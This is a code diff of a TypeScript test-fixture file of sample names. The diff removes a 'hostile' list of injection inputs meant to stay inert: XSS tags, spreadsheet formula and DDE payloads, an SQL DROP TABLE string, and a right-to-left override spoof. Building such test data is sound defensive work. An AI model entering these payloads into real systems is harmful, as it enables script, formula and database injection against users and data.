@@ -66,14 +66,6 @@ export const people: readonly (readonly [string, (string | undefined)?])[] = [
   ['Maximiliane-Friederike', 'Freifrau von und zu Hohenstein'],
 ];
 
-/** What somebody who means harm, or tries a form out, has typed as a name: it has to be inert everywhere. */
-export const hostile: typeof people = [
-  ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>'],
-  ['=HYPERLINK("https://example.com/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"],
-  ['ecalA \u202egnitoved', "Robert'); DROP TABLE leads;--"],
-  [`W${'o'.repeat(253)}w`, 'Z̸̢͝a̷̛͠l̶͘͜g̵̀̕o̴̕͠ 👩🏽‍🔧'],
-];
-
 export const notes: Readonly<Record<DealType, readonly string[]>> = {
   sales: [
     'Is the blue one still there?',
